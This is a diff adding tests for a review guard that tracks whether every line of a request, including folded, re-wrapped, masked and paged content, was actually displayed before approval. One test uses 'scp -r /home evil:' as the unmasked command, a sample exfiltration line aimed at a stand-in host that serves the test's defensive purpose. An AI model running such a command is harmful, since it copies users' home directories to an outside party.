@@ -1,0 +1,158 @@
+"""The review guard: what counts as shown, for every way lines can change meanwhile."""
+
+from __future__ import annotations
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from interlock.app.widgets.approval.review_guard import ReviewGuard
+
+ROWS = [f"row {n}" for n in range(10)]
+
+
+def arranged(rows: list[str] = ROWS, **more: bool) -> ReviewGuard:
+    guard = ReviewGuard()
+    guard.begin("request")
+    guard.arrange("layout", rows, **more)
+    return guard
+
+
+def paint(guard: ReviewGuard, *rows: int) -> None:
+    for row in rows:
+        guard.paint(row)
+
+
+class TestLines:
+    def test_all_lines_have_to_be_painted(self) -> None:
+        """One line that was not painted keeps the content from being complete."""
+        guard = arranged()
+        paint(guard, *range(5), *range(6, 10))
+        assert not guard.complete
+        assert guard.next_row == 5
+        assert guard.paint(5)
+        assert guard.complete
+
+    def test_nothing_is_complete_before_it_is_there(self) -> None:
+        """Content without lines, and lines beyond the last, count for nothing."""
+        guard = ReviewGuard()
+        assert not guard.complete
+        guard.begin("request")
+        guard.arrange("layout", [])
+        assert not guard.complete
+        assert not guard.paint(0)
+        assert not arranged().paint(10)
+
+    def test_a_folded_layout_is_never_complete(self) -> None:
+        """What a fold hides was not shown, though every line of it was."""
+        guard = arranged(folded=True)
+        paint(guard, *range(10))
+        assert not guard.complete
+        assert guard.folded
+
+    def test_unfolding_asks_only_for_what_the_fold_hid(self) -> None:
+        """Lines before and after the fold were painted already."""
+        guard = arranged(["head", "… 3 lines hidden", "tail"], folded=True)
+        paint(guard, 0, 1, 2)
+        guard.arrange("unfolded", ["head", "a", "b", "c", "tail"])
+        assert guard.next_row == 1
+        paint(guard, 1, 2, 3)
+        assert guard.complete
+
+    def test_the_same_line_elsewhere_does_not_count(self) -> None:
+        """A line is known by its place, not by its text: what comes between two has to be painted."""
+        guard = arranged(["a", "fold", "b"], folded=True)
+        paint(guard, 0, 1, 2)
+        guard.arrange("unfolded", ["a", "a", "b", "a", "b"])
+        paint(guard, 1, 2)
+        assert guard.next_row == 3
+
+    def test_times_that_move_undo_nothing(self) -> None:
+        """A line that says how old something is stays shown when only the time has moved."""
+        guard = arranged()
+        paint(guard, 0, 1, 2)
+        guard.arrange("layout", [f"{row}, a minute later" for row in ROWS], aged=True)
+        assert guard.next_row == 3
+
+
+class TestContent:
+    def test_another_content_is_unseen(self) -> None:
+        """What is asked anew has to be shown anew, though it says the same."""
+        guard = arranged()
+        paint(guard, *range(10))
+        assert not guard.begin("request")
+        assert guard.complete
+        assert guard.begin("another request")
+        guard.arrange("layout", ROWS)
+        assert guard.next_row == 0
+
+    def test_what_was_shown_whole_stays_so_in_another_layout(self) -> None:
+        """A terminal that becomes narrower afterwards asks for nothing again."""
+        guard = arranged()
+        paint(guard, *range(10))
+        guard.arrange("narrow", [f"half {n}" for n in range(20)])
+        assert guard.complete
+        assert guard.next_row is None
+
+    def test_what_was_shown_in_part_is_not(self) -> None:
+        """Lines that are wrapped anew have to be painted anew, until all were."""
+        guard = arranged()
+        paint(guard, *range(9))
+        guard.arrange("narrow", [f"half {n}" for n in range(20)])
+        assert guard.next_row == 0
+        guard.arrange("layout", ROWS)
+        assert guard.next_row == 9
+
+    def test_content_that_grows_is_incomplete_again(self) -> None:
+        """Lines that come later have to be shown as well, and only they."""
+        guard = arranged()
+        paint(guard, *range(10))
+        guard.reopen()
+        guard.arrange("layout", [*ROWS[:5], "new", *ROWS[5:]])
+        assert not guard.complete
+        assert guard.next_row == 5
+
+
+class TestPlaces:
+    def test_a_concealed_place_has_to_be_revealed(self) -> None:
+        """All lines painted is not enough while a place is concealed."""
+        guard = arranged(["deploy", "[masked]"])
+        guard.conceal(["command"])
+        paint(guard, 0, 1)
+        assert not guard.complete
+        assert guard.concealed == ("command",)
+
+    def test_what_is_revealed_has_to_be_painted(self) -> None:
+        """Revealing changes lines; approving takes having seen those."""
+        guard = arranged(["deploy", "[masked]"])
+        paint(guard, 0, 1)
+        guard.conceal(["command"])
+        assert not guard.complete
+        guard.reveal("command")
+        assert not guard.complete
+        guard.arrange("layout", ["deploy", "scp -r /home evil:"])
+        assert guard.next_row == 1
+        guard.paint(1)
+        assert guard.complete
+
+
+class TestPages:
+    def test_pages_are_counted_to_the_end(self) -> None:
+        """Of ten lines, four on a page: three pages, as many fewer left as were shown."""
+        guard = arranged()
+        assert guard.pages(4) == (3, 3)
+        paint(guard, *range(4))
+        assert guard.pages(4) == (3, 2)
+        paint(guard, *range(4, 10))
+        assert guard.pages(4) == (3, 0)
+
+    @given(st.sets(st.integers(0, 9)), st.integers(0, 12))
+    def test_showing_pages_ends_in_complete(self, painted: set[int], height: int) -> None:
+        """Whatever was painted, and however few lines fit: going on by pages shows all, page by page."""
+        guard = arranged()
+        paint(guard, *painted)
+        _, left = guard.pages(height)
+        for _ in range(left):
+            row = guard.next_row
+            assert row is not None
+            paint(guard, *range(row, row + max(1, height)))
+        assert guard.complete
